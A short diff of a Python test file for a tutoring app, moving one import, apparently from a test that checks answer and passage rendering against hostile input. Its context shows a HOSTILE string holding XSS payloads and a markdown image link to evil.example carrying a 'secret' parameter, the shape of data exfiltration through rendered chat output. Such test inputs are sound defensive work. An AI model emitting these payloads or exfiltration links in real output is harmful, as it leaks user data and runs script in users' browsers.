@@ -3,8 +3,8 @@ from tutor.answer.citations import Span
 from tutor.answer.layout import AnswerStatement
 from tutor.flow import Tutor
 from tutor.read.document import Passage, Source
-from tutor.ui.chat import as_text
 from tutor.ui.passage import answer_html, passage_html
+from tutor.ui.shown import as_text
 
 HOSTILE = (
     "<script>alert(1)</script> <img src=x onerror=alert(2)> ![x](http://evil.example/?secret) "
